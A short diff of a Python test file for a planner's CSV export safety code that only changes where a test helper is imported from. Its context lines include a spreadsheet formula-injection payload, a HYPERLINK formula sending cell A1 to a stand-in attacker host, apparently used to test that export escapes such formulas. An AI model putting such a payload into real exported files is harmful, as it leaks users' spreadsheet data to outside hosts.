@@ -16,7 +16,7 @@ from planner.export.safety import FORMULA_TRIGGERS, plain_text
 from planner.export.tables import csv_bytes
 from planner.model.files import load_plan, plan_from_dict, plan_to_dict
 from planner.model.plan import Plan
-from tests.conftest import ROOT
+from tests.support.tools import ROOT
 
 PAYLOADS = {
     "client": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
